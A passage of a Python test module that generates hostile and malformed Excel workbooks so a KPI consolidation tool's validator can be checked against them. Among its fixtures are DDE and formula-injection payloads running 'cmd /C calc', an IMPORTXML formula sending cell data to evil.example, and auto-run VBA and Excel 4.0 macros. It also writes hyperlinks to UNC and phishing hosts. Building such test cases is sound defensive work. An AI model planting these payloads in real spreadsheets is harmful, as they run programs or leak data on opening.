"""Hostile and odd workbooks (issue 7), built from a real kpitool template by code.

:mod:`corpus` covers files that are not readable workbooks at all (truncated zips, bombs,
DTD tricks, .xls, CSV). This module covers what gets *past* the package check: filled
templates with one hostile or odd trait each (a lying ``dimension``, 200,000 rows, external
links, ``file://`` hyperlinks, 40,000-character text, control characters, formula-like text,
typed formulas, last year's template, an edited hidden sheet, deleted or renamed headers,
macros), plus every real Excel file of the real-workbook corpus (``tests/paths.py``).

Each :class:`HostileCase` declares the outcome the promise test holds it to: the finding codes
of which at least one must be reported, or that the file is accepted and consolidated (a
harmless oddity must not cost a department its submission). The generators edit the XML parts
of a template written by :func:`kpitool.template.write_template`, so each file differs from a
good submission only by the trait under test, and each claims its own 部局名 so that a single
inbox can hold every case at once.
"""

from __future__ import annotations

import dataclasses
import functools
import io
import re
import shutil
import tempfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

from corpus import _cfb, write_zip
from paths import REAL_XLSX

from kpitool import codes
from kpitool.package import DEFAULT_LIMITS, FileProblem
from kpitool.spec import DEFAULT_FISCAL_YEARS, META_SHEET, template_spec
from kpitool.structure import DEFAULT_INPUT_ROWS
from kpitool.template import FilledData, write_template

FISCAL_YEARS = DEFAULT_FISCAL_YEARS
MUNICIPALITY = "菊川市"

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_HYPERLINK = f"{R_NS}/hyperlink"
REL_EXTERNAL_LINK = f"{R_NS}/externalLink"
REL_EXTERNAL_PATH = f"{R_NS}/externalLinkPath"
REL_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
REL_MACROSHEET = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"

# Markers for :attr:`HostileCase.expect`, besides finding codes.
ACCEPTED = "受理"
"""The file is consolidated: no エラー finding, status 提出済 (warnings allowed)."""

EXCEL_CELL_LIMIT = 32_767  # characters Excel keeps in one cell

# Limits the promise test holds every case to (measured on a 2-core CI machine: the slowest
# ordinary case takes under 0.1 s, the 200,000-row cases under 3 s and 210 MB; see
# docs/reliability.md). Time is wall clock for validate_file; memory is the peak RSS of a
# fresh process that imports kpitool and validates one file.
SECONDS = 5.0
BIG_SECONDS = 10.0
MEMORY_LIMIT_MB = 400


# -- the base submission --------------------------------------------------------------------


def filled_data(department: str, **changes: Any) -> FilledData:
    """A clean filled template for ``department``; ``changes`` replace whole FilledData fields.

    The rows are those of tests/conftest.py's ``sample_data`` (kept in step by
    test_hostile.py), repeated here so that this module also runs outside pytest (the doc
    generator and the subprocess that measures memory import it).
    """
    import datetime as dt

    base = FilledData(
        basic={"municipality": MUNICIPALITY, "department": department, "head": "菊川 太郎",
               "contact_person": "企画政策課 山田 花子", "contact": "内線 1234",
               "created": dt.date(2024, 4, 1)},
        kpis=[
            {"no": "1", "policy": "業務改善の推進", "indicator": "業務改善提出件数", "unit": "件",
             "direction": "↑", "target": 500, "prev": 498, "curr": 515, "grade": "A", "note": ""},
            {"no": "2", "policy": "広報", "indicator": "認知度", "unit": "%", "direction": "↑",
             "target": 39, "prev": "-", "curr": 34, "grade": "C", "note": "見込み"},
        ],
        survey=[
            {"no": "1", "viewpoint": "視点1 効果的・効率的な行政運営の推進",
             "initiative": "業務改善", "content": "業務の効率化を意識し、改善・見直しを実施します。",
             "plan": "行政経営推進方針", "prev": "提出件数498件",
             "curr": "提出件数515件"},
        ],
        figures=[
            {"initiative_no": "1", "item": "提出件数", "unit": "件", "direction": "↑",
             "prev": 498, "curr": "515件", "note": ""},
            {"initiative_no": "1", "item": "事務時間削減", "unit": "時間", "direction": "↑",
             "prev": "2,459.3", "curr": 4618, "note": ""},
            {"initiative_no": "1", "item": "経費削減", "unit": "円", "direction": "↑",
             "prev": "８，７８２，５４６", "curr": 11752258, "note": ""},
        ],
    )
    return dataclasses.replace(base, **changes)


def _template_bytes(department: str, fiscal_years: tuple[int, int], data: FilledData) -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        path = write_template(
            Path(tmp) / "t.xlsx", roster=roster(), fiscal_years=fiscal_years, data=data
        )
        return path.read_bytes()


@functools.cache
def _base_template_bytes(department: str, fiscal_years: tuple[int, int]) -> bytes:
    return _template_bytes(department, fiscal_years, filled_data(department))


def template_parts(
    department: str,
    *,
    fiscal_years: tuple[int, int] = FISCAL_YEARS,
    data: FilledData | None = None,
) -> dict[str, bytes]:
    """The zip parts of a filled template, to edit and re-zip with :func:`corpus.write_zip`."""
    if data is None:
        raw = _base_template_bytes(department, fiscal_years)
    else:
        raw = _template_bytes(department, fiscal_years, data)
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def sheet_part(parts: Mapping[str, bytes], sheet: str) -> str:
    """The zip member holding ``sheet``, found through workbook.xml and its rels."""
    workbook = parts["xl/workbook.xml"].decode()
    m = re.search(rf'<sheet name="{re.escape(escape(sheet))}"[^>]*r:id="(rId\d+)"', workbook)
    if m is None:
        raise KeyError(sheet)
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    target = re.search(rf'Id="{m.group(1)}"[^>]*Target="([^"]+)"', rels)
    assert target is not None, m.group(1)
    return "xl/" + target.group(1)


def sheet_rels(part: str) -> str:
    """``xl/worksheets/sheet5.xml`` -> ``xl/worksheets/_rels/sheet5.xml.rels``."""
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels"


def set_cell(parts: dict[str, bytes], sheet: str, ref: str, cell_xml: str) -> None:
    """Replace the ``<c r="ref">`` element of ``sheet`` (the template writes every input cell)."""
    name = sheet_part(parts, sheet)
    xml = parts[name].decode()
    pattern = re.compile(rf'<c r="{ref}"(?: [^>]*?)?(?:/>|>.*?</c>)', re.S)
    new, count = pattern.subn(lambda _m: cell_xml, xml, count=1)
    assert count == 1, (sheet, ref)
    parts[name] = new.encode()


def text_cell(ref: str, text: str, style: int | None = None) -> str:
    """An inline-string cell; the text is XML-escaped, so any str can be injected."""
    s = f' s="{style}"' if style is not None else ""
    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{escape(text)}</t></is></c>'


def number_cell(ref: str, raw: str, style: int | None = None) -> str:
    """A numeric cell whose ``<v>`` is ``raw`` exactly as written (e.g. ``1E+309``)."""
    s = f' s="{style}"' if style is not None else ""
    return f'<c r="{ref}"{s}><v>{raw}</v></c>'


def formula_cell(ref: str, formula: str, cached: str | None, *, string: bool = False) -> str:
    """A formula cell with its cached value, or none (as openpyxl saves formulas)."""
    t = ' t="str"' if string and cached is not None else ""
    v = f"<v>{escape(cached)}</v>" if cached is not None else ""
    return f'<c r="{ref}"{t}><f>{escape(formula)}</f>{v}</c>'


def shared_string(parts: Mapping[str, bytes], text: str) -> int:
    """The index of ``text`` in xl/sharedStrings.xml (each <si> is one plain <t> here)."""
    items = re.findall(r"<si>(.*?)</si>", parts["xl/sharedStrings.xml"].decode(), re.S)
    return [re.sub(r"<[^>]+>", "", item) for item in items].index(escape(text))


def add_rel(parts: dict[str, bytes], rels_name: str, rid: str, rel_type: str, target: str,
            *, external: bool = False) -> None:
    """Add one relationship to a rels part, creating the part if needed."""
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{rel_type}" Target="{escape(target)}"{mode}/>'
    if rels_name not in parts:
        parts[rels_name] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b"</Relationships>"
        )
    parts[rels_name] = parts[rels_name].replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def add_content_type(parts: dict[str, bytes], part_name: str, content_type: str) -> None:
    override = f'<Override PartName="/{part_name}" ContentType="{content_type}"/>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", override.encode() + b"</Types>"
    )


def replace_once(parts: dict[str, bytes], name: str, old: str, new: str) -> None:
    assert old.encode() in parts[name], (name, old)
    parts[name] = parts[name].replace(old.encode(), new.encode(), 1)


def save(directory: Path, filename: str, parts: Mapping[str, bytes], level: int = 6) -> Path:
    """Zip ``parts`` into ``directory/filename``; ``level`` 1 keeps the big cases quick."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / filename
    if level == 6:
        return write_zip(path, parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, content in parts.items():
            zf.writestr(name, content)
    return path


# Template geometry, from the spec rather than repeated: headers in row 3, data from row 4.
FIGURES = template_spec(FISCAL_YEARS).sheet("figures").name  # 実績数値
KPIS = template_spec(FISCAL_YEARS).sheet("kpis").name  # 事業成果目標
SURVEY = template_spec(FISCAL_YEARS).sheet("survey").name  # 実績調査
HEADER_ROW = 3
FIRST_ROW = 4


# -- generators: size and shape -------------------------------------------------------------


def dimension_full_sheet(directory: Path, department: str) -> Path:
    """Every sheet claims ``<dimension ref="A1:XFD1048576"/>`` (17 billion cells): a reader that
    trusts it to size its grid runs out of memory. The cells themselves are a clean submission."""
    parts = template_parts(department)
    for name in [n for n in parts if n.startswith("xl/worksheets/sheet")]:
        parts[name] = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>',
                             parts[name])
    return save(directory, "dimension_full_sheet.xlsx", parts)


def _many_rows(parts: dict[str, bytes], rows: int, *, excel_like: bool) -> None:
    """Fill 実績数値 with ``rows`` distinct figures, replacing the template's data rows.

    ``excel_like`` writes what Excel saves after a paste into the table (cell references,
    styles, the empty 備考 cell, the table grown to fit); otherwise the leanest valid XML: no
    ``r`` attributes, no styles (OOXML allows both, and some exporters write it).
    """
    name = sheet_part(parts, FIGURES)
    xml = parts[name].decode()
    head, rest = xml.split(f'<row r="{FIRST_ROW}"', 1)
    tail = rest[rest.index("</sheetData>"):]
    last = FIRST_ROW + rows - 1
    if excel_like:
        body = "".join(
            f'<row r="{r}" spans="1:7"><c r="A{r}" s="8" t="inlineStr"><is><t>1</t></is></c>'
            f'<c r="B{r}" s="6" t="inlineStr"><is><t>項目{r}</t></is></c>'
            f'<c r="C{r}" s="6" t="inlineStr"><is><t>件</t></is></c>'
            f'<c r="D{r}" s="8" t="inlineStr"><is><t>↑</t></is></c>'
            f'<c r="E{r}" s="10"><v>{r}</v></c><c r="F{r}" s="10"><v>{r + 1}</v></c>'
            f'<c r="G{r}" s="9"/></row>'
            for r in range(FIRST_ROW, last + 1)
        )
    else:
        a, b, c, d = (shared_string(parts, t) for t in ("1", "提出件数", "件", "↑"))
        body = "".join(
            f'<row><c t="s"><v>{a}</v></c><c t="s"><v>{b}</v></c><c t="s"><v>{c}</v></c>'
            f'<c t="s"><v>{d}</v></c><c><v>{r}</v></c><c><v>{r + 1}</v></c></row>'
            for r in range(FIRST_ROW, last + 1)
        )
    xml = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="A1:G{last}"/>', head)
    parts[name] = (xml + body + tail).encode()
    for table in [n for n in parts if n.startswith("xl/tables/")]:
        if f'name="{FIGURES}"'.encode() in parts[table]:
            parts[table] = re.sub(rb'ref="A3:G\d+"', f'ref="A3:G{last}"'.encode(), parts[table])


ROWS_BIG = 200_000


def rows_200k(directory: Path, department: str) -> Path:
    """200,000 figures pasted into the 実績数値 table, saved as Excel saves them (~60 MB of
    sheet XML, 6 MB zipped): a department exporting a whole database into the template."""
    parts = template_parts(department)
    _many_rows(parts, ROWS_BIG, excel_like=True)
    return save(directory, "rows_200k.xlsx", parts, level=1)


def rows_200k_compact(directory: Path, department: str) -> Path:
    """The same 200,000 rows in the leanest valid XML (no cell references, no styles, the
    texts shared; ~28 MB, under the part limit), so the reader itself meets them: its row
    limit, not the package limit, must stop it."""
    parts = template_parts(department)
    _many_rows(parts, ROWS_BIG, excel_like=False)
    return save(directory, "rows_200k_compact.xlsx", parts, level=1)


def long_text_40k(directory: Path, department: str) -> Path:
    """A 40,000-character 実績 text: more than the 32,767 characters an Excel cell holds, so
    copying it into the master would make a workbook Excel must repair."""
    parts = template_parts(department)
    text = ("業務改善提案を募集し、515件の提出があった。" * 2000)[:40_000]
    set_cell(parts, SURVEY, f"F{FIRST_ROW}", text_cell(f"F{FIRST_ROW}", text))
    return save(directory, "long_text_40k.xlsx", parts)


def sheet_names_case(directory: Path, department: str) -> Path:
    """A second, visible meta sheet ``_KPITOOL`` beside the very hidden ``_kpitool``, claiming
    other fiscal years: names Excel treats as the same, so readers may pick either."""
    parts = template_parts(department)
    meta = sheet_part(parts, META_SHEET)
    forged = parts[meta].decode()
    forged = forged.replace('<c r="B3"><v>2022</v></c>', '<c r="B3"><v>2021</v></c>')
    forged = forged.replace('<c r="B4"><v>2023</v></c>', '<c r="B4"><v>2022</v></c>')
    parts["xl/worksheets/sheet99.xml"] = forged.encode()
    add_rel(parts, "xl/_rels/workbook.xml.rels", "rId99", f"{R_NS}/worksheet",
            "worksheets/sheet99.xml")
    add_content_type(parts, "xl/worksheets/sheet99.xml",
                     "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
    replace_once(parts, "xl/workbook.xml", "</sheets>",
                 f'<sheet name="{META_SHEET.upper()}" sheetId="99" r:id="rId99"/></sheets>')
    return save(directory, "sheet_names_case.xlsx", parts)


# -- generators: links, formulas and macros -------------------------------------------------


def external_link(directory: Path, department: str) -> Path:
    """A figure taken by formula from another workbook on a file server (``[1]Sheet1!$A$1``),
    with its xl/externalLinks part and a defined name pointing there too."""
    parts = template_parts(department)
    parts["xl/externalLinks/externalLink1.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{R_NS}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/>'
        '</sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>498</v>'
        "</cell></row></sheetData></sheetDataSet></externalBook></externalLink>"
    ).encode()
    add_rel(parts, "xl/externalLinks/_rels/externalLink1.xml.rels", "rId1", REL_EXTERNAL_PATH,
            "file:///\\\\fileserver\\share\\予算\\budget.xlsx", external=True)
    add_rel(parts, "xl/_rels/workbook.xml.rels", "rId98", REL_EXTERNAL_LINK,
            "externalLinks/externalLink1.xml")
    add_content_type(parts, "xl/externalLinks/externalLink1.xml",
                     "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    replace_once(parts, "xl/workbook.xml", "</sheets>",
                 '</sheets><externalReferences><externalReference r:id="rId98"/>'
                 "</externalReferences>")
    replace_once(parts, "xl/workbook.xml", "<definedNames>",
                 '<definedNames><definedName name="外部予算">[1]Sheet1!$A$1</definedName>')
    set_cell(parts, FIGURES, f"E{FIRST_ROW}", formula_cell(f"E{FIRST_ROW}", "[1]Sheet1!$A$1", "498"))
    return save(directory, "external_link.xlsx", parts)


def hyperlinks_file_unc(directory: Path, department: str) -> Path:
    """備考 cells linked to ``file:///C:/Windows/System32/calc.exe``, a UNC path
    ``\\\\evil-server\\share\\payload.xlsx`` and a web page, plus a UNC path typed as plain text."""
    parts = template_parts(department)
    name = sheet_part(parts, FIGURES)
    targets = ["file:///C:/Windows/System32/calc.exe", "\\\\evil-server\\share\\payload.xlsx",
               "http://evil.example/phish"]
    links = []
    for i, target in enumerate(targets):  # the three filled rows of 実績数値
        ref = f"G{FIRST_ROW + i}"
        set_cell(parts, FIGURES, ref, text_cell(ref, "参考資料", 9))
        add_rel(parts, sheet_rels(name), f"rIdH{i}", REL_HYPERLINK, target, external=True)
        links.append(f'<hyperlink ref="{ref}" r:id="rIdH{i}"/>')
    replace_once(parts, name, "<pageMargins", f"<hyperlinks>{''.join(links)}</hyperlinks><pageMargins")
    note = f"M{FIRST_ROW}"  # 事業成果目標 備考
    set_cell(parts, KPIS, note, text_cell(note, "\\\\evil-server\\share\\payload.xlsx"))
    return save(directory, "hyperlinks_file_unc.xlsx", parts)


FORMULA_LIKE_TEXTS = {
    "policy": '=HYPERLINK("http://evil.example/","詳細はこちら")',
    "indicator": "=cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def formula_like_text(directory: Path, department: str) -> Path:
    """Text cells that start with = + - @ (CSV/formula injection payloads, and a phone number
    that merely starts with +), stored as text as Excel does after a leading apostrophe."""
    base = filled_data(department)
    kpis = [dict(row) for row in base.kpis]
    kpis[0].update(FORMULA_LIKE_TEXTS)
    kpis[1]["note"] = "+81-537-35-0000"
    survey = [dict(row) for row in base.survey]
    survey[0]["plan"] = "-2+3+cmd|' /C notepad'!A0"
    survey[0]["curr"] = '=IMPORTXML("http://evil.example/?q="&A1,"//a")'
    data = dataclasses.replace(base, kpis=kpis, survey=survey)
    parts = template_parts(department, data=data)
    return save(directory, "formula_like_text.xlsx", parts)


def user_formula_cached(directory: Path, department: str) -> Path:
    """Figures a user typed as formulas (=SUM(490,8), =E5*1.5) that Excel calculated and cached."""
    parts = template_parts(department)
    set_cell(parts, FIGURES, f"E{FIRST_ROW}", formula_cell(f"E{FIRST_ROW}", "SUM(490,8)", "498"))
    set_cell(parts, FIGURES, f"F{FIRST_ROW + 1}",
             formula_cell(f"F{FIRST_ROW + 1}", "E5*1.5", "4618"))
    return save(directory, "user_formula_cached.xlsx", parts)


def user_formula_uncached(directory: Path, department: str) -> Path:
    """The same typed formulas without cached values, as openpyxl and some web tools save them:
    the shown value is unknown until Excel recalculates."""
    parts = template_parts(department)
    set_cell(parts, FIGURES, f"E{FIRST_ROW}", formula_cell(f"E{FIRST_ROW}", "SUM(490,8)", None))
    set_cell(parts, FIGURES, f"F{FIRST_ROW + 1}", formula_cell(f"F{FIRST_ROW + 1}", "E5*1.5", None))
    return save(directory, "user_formula_uncached.xlsx", parts)


def dde_formula(directory: Path, department: str) -> Path:
    """A DDE formula ``=cmd|' /C calc'!A0`` as a real formula in 備考, cached as 0, and a
    defined name with the same payload: runs a program in Excel when links are enabled."""
    parts = template_parts(department)
    ref = f"G{FIRST_ROW}"
    set_cell(parts, FIGURES, ref, formula_cell(ref, "cmd|' /C calc'!A0", "0"))
    replace_once(parts, "xl/workbook.xml", "<definedNames>",
                 "<definedNames><definedName name=\"起動\">cmd|' /C calc'!A0</definedName>")
    return save(directory, "dde_formula.xlsx", parts)


def _vba_project() -> bytes:
    """A small OLE vbaProject.bin whose PROJECT stream names an Auto_Open module."""
    project = (b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisWorkbook/&H00000000'
               b"\r\nModule=Module1\r\nName=\"VBAProject\"\r\n")
    module = b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n Shell "calc.exe"\r\nEnd Sub\r\n'
    return _cfb({"PROJECT": project, "Module1": module, "dir": b"\x01\x00" + b"\0" * 64})


def _with_vba(parts: dict[str, bytes]) -> None:
    parts["xl/vbaProject.bin"] = _vba_project()
    add_rel(parts, "xl/_rels/workbook.xml.rels", "rId97", REL_VBA, "vbaProject.bin")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ).replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )


def xlsm_vba(directory: Path, department: str) -> Path:
    """The template saved as .xlsm with a VBA project holding an Auto_Open macro."""
    parts = template_parts(department)
    _with_vba(parts)
    return save(directory, "xlsm_vba.xlsm", parts)


def xlsx_with_vba(directory: Path, department: str) -> Path:
    """The same VBA project hidden in a file named .xlsx (Excel refuses it; a careless copy
    into the master would not)."""
    parts = template_parts(department)
    _with_vba(parts)
    return save(directory, "xlsx_with_vba.xlsx", parts)


def xlm_macrosheet(directory: Path, department: str) -> Path:
    """An Excel 4.0 macro sheet (very hidden) with ``_xlnm.Auto_Open`` running EXEC("calc")."""
    parts = template_parts(department)
    parts["xl/macrosheets/sheet1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
        b'<c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c>'
        b"</row></sheetData></xm:macrosheet>"
    )
    add_rel(parts, "xl/_rels/workbook.xml.rels", "rId96", REL_MACROSHEET, "macrosheets/sheet1.xml")
    add_content_type(parts, "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
    replace_once(parts, "xl/workbook.xml", "</sheets>",
                 '<sheet name="Macro1" sheetId="96" state="veryHidden" r:id="rId96"/></sheets>')
    replace_once(parts, "xl/workbook.xml", "<definedNames>",
                 '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">'
                 "Macro1!$A$1</definedName>")
    return save(directory, "xlm_macrosheet.xlsx", parts)


# -- generators: characters -------------------------------------------------------------------


def control_chars(directory: Path, department: str) -> Path:
    """Control characters typed or pasted into text cells: BEL, ESC with a terminal escape
    sequence, NUL, a vertical tab, and a right-to-left override that shows text reversed.
    XlsxWriter stores them as Excel does, as ``_x0007_``-style escapes."""
    base = filled_data(department)
    kpis = [dict(row) for row in base.kpis]
    kpis[0]["indicator"] = "業務改善\x07提出件数\x1b[2J\x1b[31m"
    kpis[0]["note"] = "備考\x00\x0b終わり"
    kpis[1]["indicator"] = "認知度\u202e%001"
    data = dataclasses.replace(base, kpis=kpis)
    return save(directory, "control_chars.xlsx", template_parts(department, data=data))


def invisible_chars(directory: Path, department: str) -> Path:
    """Characters that hide themselves pasted into text: a right-to-left override (U+202E) that
    shows ``認知度%001`` as ``認知度100%``, a zero-width space and a BOM inside a note. No control
    character Excel would refuse, so the file is accepted; the master must not hide them."""
    base = filled_data(department)
    kpis = [dict(row) for row in base.kpis]
    kpis[1]["indicator"] = "認知度\u202e%001"
    kpis[0]["note"] = "備考\u200bです\ufeff"
    data = dataclasses.replace(base, kpis=kpis)
    return save(directory, "invisible_chars.xlsx", template_parts(department, data=data))


def invalid_xml_escape(directory: Path, department: str) -> Path:
    """``_x0001_`` and a lone surrogate ``_xD800_`` escaped in shared strings: valid XML that
    decodes to characters XML 1.0 forbids (and UTF-8 cannot encode)."""
    parts = template_parts(department)
    replace_once(parts, "xl/sharedStrings.xml", "<t>提出件数</t>", "<t>提出_x0001_件数_xD800_</t>")
    return save(directory, "invalid_xml_escape.xlsx", parts)


def invalid_xml_raw_byte(directory: Path, department: str) -> Path:
    """A raw 0x01 byte inside a sheet's XML (a broken tool or a bit flip before zipping):
    not well-formed XML, so every conforming parser must refuse the part."""
    parts = template_parts(department)
    name = sheet_part(parts, FIGURES)
    parts[name] = parts[name].replace(b"<v>498</v>", b"<v>49\x018</v>", 1)
    replace_once(parts, "xl/sharedStrings.xml", "<t>提出件数</t>", "<t>提出\x01件数</t>")
    return save(directory, "invalid_xml_raw_byte.xlsx", parts)


def extreme_numbers(directory: Path, department: str) -> Path:
    """Numbers no cell can hold: 1E+309 (infinite as a double) and the literals ``NaN`` and
    ``inf`` that some exporters write into ``<v>``."""
    parts = template_parts(department)
    set_cell(parts, FIGURES, f"E{FIRST_ROW}", number_cell(f"E{FIRST_ROW}", "1E+309", 10))
    set_cell(parts, FIGURES, f"F{FIRST_ROW}", number_cell(f"F{FIRST_ROW}", "NaN", 10))
    set_cell(parts, FIGURES, f"F{FIRST_ROW + 1}", number_cell(f"F{FIRST_ROW + 1}", "inf", 10))
    return save(directory, "extreme_numbers.xlsx", parts)


def huge_finite_numbers(directory: Path, department: str) -> Path:
    """Finite numbers at the edge of a double: 1.797e308 -> -1.797e308, whose 増減 overflows to
    -infinity, and 2.1e-224 -> 3.8e84, whose 増減率 does (the template allows only ±1e15)."""
    parts = template_parts(department)
    for ref, raw in ((f"E{FIRST_ROW}", "1.7976931348623157E+308"),
                     (f"F{FIRST_ROW}", "-1.7976931348623157E+308"),
                     (f"E{FIRST_ROW + 1}", "2.1E-224"), (f"F{FIRST_ROW + 1}", "3.8E+84")):
        set_cell(parts, FIGURES, ref, number_cell(ref, raw, 10))
    return save(directory, "huge_finite_numbers.xlsx", parts)


# -- generators: what readers disagree on (issue 16) ----------------------------------------

BAD_SHARED_STRING_INDEXES = {"B4": "abc", "C4": "-1", "B5": "1.5", "C5": "1e2", "B6": "99999"}
"""Cells of 実績数値 whose shared-string index is not 0 … count-1, and the index written."""


def shared_string_bad_index(directory: Path, department: str) -> Path:
    """Shared-string cells of 実績数値 whose index is ``abc``, ``-1``, ``1.5``, ``1e2`` or past the
    last string: calamine reads most as string #0, so the 記入方法 title became an 項目."""
    parts = template_parts(department)
    name = sheet_part(parts, FIGURES)
    for ref, raw in BAD_SHARED_STRING_INDEXES.items():
        parts[name], count = re.subn(
            rf'(<c r="{ref}"[^>]*t="s"[^>]*><v>)\d+(</v>)'.encode(),
            lambda m, raw=raw: m.group(1) + raw.encode() + m.group(2), parts[name], count=1)
        assert count == 1, ref
    return save(directory, "shared_string_bad_index.xlsx", parts)


def _set_sheet_attrs(parts: dict[str, bytes], sheet: str, new_name: str, state: str | None) -> None:
    state_attr = f' state="{state}"' if state else ""
    replace_once(parts, "xl/workbook.xml", f'<sheet name="{sheet}" ',
                 f'<sheet name="{escape(new_name)}"{state_attr} ')


def hidden_sheet_behind_visible(directory: Path, department: str) -> Path:
    """A hidden sheet ``実績数値`` with forged figures next to the visible ``実績数値 `` (trailing
    space) the department filled in: a reader looking up the exact name reads the hidden one."""
    parts = template_parts(department)
    name = sheet_part(parts, FIGURES)
    forged = parts[name].replace(b"<v>498</v>", b"<v>1</v>", 1)
    parts["xl/worksheets/sheet98.xml"] = forged
    add_rel(parts, "xl/_rels/workbook.xml.rels", "rId95", f"{R_NS}/worksheet",
            "worksheets/sheet98.xml")
    add_content_type(parts, "xl/worksheets/sheet98.xml",
                     "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
    _set_sheet_attrs(parts, FIGURES, FIGURES + " ", None)
    replace_once(parts, "xl/workbook.xml", "</sheets>",
                 f'<sheet name="{FIGURES}" sheetId="98" state="hidden" r:id="rId95"/></sheets>')
    return save(directory, "hidden_sheet_behind_visible.xlsx", parts)


def very_hidden_data_sheet(directory: Path, department: str) -> Path:
    """The 実績数値 sheet set to veryHidden (only VBA can show it again): the department cannot
    see the figures it submits."""
    parts = template_parts(department)
    _set_sheet_attrs(parts, FIGURES, FIGURES, "veryHidden")
    return save(directory, "very_hidden_data_sheet.xlsx", parts)


def sheet_names_nfkc(directory: Path, department: str) -> Path:
    """A second visible sheet ``実績数値　`` (an ideographic space after the name) holding other
    figures beside the real 実績数値: two names equal after trimming, one tab to the eye."""
    parts = template_parts(department)
    name = sheet_part(parts, FIGURES)
    parts["xl/worksheets/sheet97.xml"] = parts[name].replace(b"<v>498</v>", b"<v>2</v>", 1)
    add_rel(parts, "xl/_rels/workbook.xml.rels", "rId94", f"{R_NS}/worksheet",
            "worksheets/sheet97.xml")
    add_content_type(parts, "xl/worksheets/sheet97.xml",
                     "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
    replace_once(parts, "xl/workbook.xml", "</sheets>",
                 f'<sheet name="{FIGURES}\u3000" sheetId="97" r:id="rId94"/></sheets>')
    return save(directory, "sheet_names_nfkc.xlsx", parts)


# -- generators: the template contract --------------------------------------------------------


def last_year_template(directory: Path, department: str) -> Path:
    """Last year's template (令和3・令和4年度, fiscal years 2021/2022) filled in this year."""
    parts = template_parts(department, fiscal_years=(2021, 2022))
    return save(directory, "last_year_template.xlsx", parts)


def _edit_meta(parts: dict[str, bytes], ref: str, cell_xml: str) -> None:
    set_cell(parts, META_SHEET, ref, cell_xml)


def meta_wrong_id(directory: Path, department: str) -> Path:
    """The very hidden _kpitool sheet edited: template_id of another tool's template."""
    parts = template_parts(department)
    _edit_meta(parts, "B1", text_cell("B1", "other-department-template"))
    return save(directory, "meta_wrong_id.xlsx", parts)


def meta_wrong_version(directory: Path, department: str) -> Path:
    """The very hidden _kpitool sheet edited: template_version 99, a version this kpitool
    does not know."""
    parts = template_parts(department)
    _edit_meta(parts, "B2", number_cell("B2", "99"))
    return save(directory, "meta_wrong_version.xlsx", parts)


def meta_years_edited(directory: Path, department: str) -> Path:
    """The very hidden _kpitool sheet says 2021/2022 while the headers say 令和4・令和5年度."""
    parts = template_parts(department)
    _edit_meta(parts, "B3", number_cell("B3", "2021"))
    _edit_meta(parts, "B4", number_cell("B4", "2022"))
    return save(directory, "meta_years_edited.xlsx", parts)


def meta_sheet_deleted(directory: Path, department: str) -> Path:
    """The very hidden _kpitool sheet removed (a user rebuilt the workbook by copying sheets)."""
    parts = template_parts(department)
    name = sheet_part(parts, META_SHEET)
    workbook = parts["xl/workbook.xml"].decode()
    workbook = re.sub(rf'<sheet name="{META_SHEET}"[^>]*/>', "", workbook)
    workbook = re.sub(r"<definedName name=\"部局名一覧\">[^<]*</definedName>", "", workbook)
    parts["xl/workbook.xml"] = workbook.encode()
    del parts[name]
    return save(directory, "meta_sheet_deleted.xlsx", parts)


def _delete_rows(parts: dict[str, bytes], sheet: str, first: int, last: int) -> None:
    name = sheet_part(parts, sheet)
    xml = parts[name].decode()
    for r in range(first, last + 1):
        xml, count = re.subn(rf'<row r="{r}"[^>]*?(?:/>|>.*?</row>)', "", xml, count=1, flags=re.S)
        assert count == 1, (sheet, r)
    parts[name] = xml.encode()


def table_rows_deleted(directory: Path, department: str) -> Path:
    """Every data row of 事業成果目標 and 実績数値 deleted: the tables are headers only."""
    parts = template_parts(department)
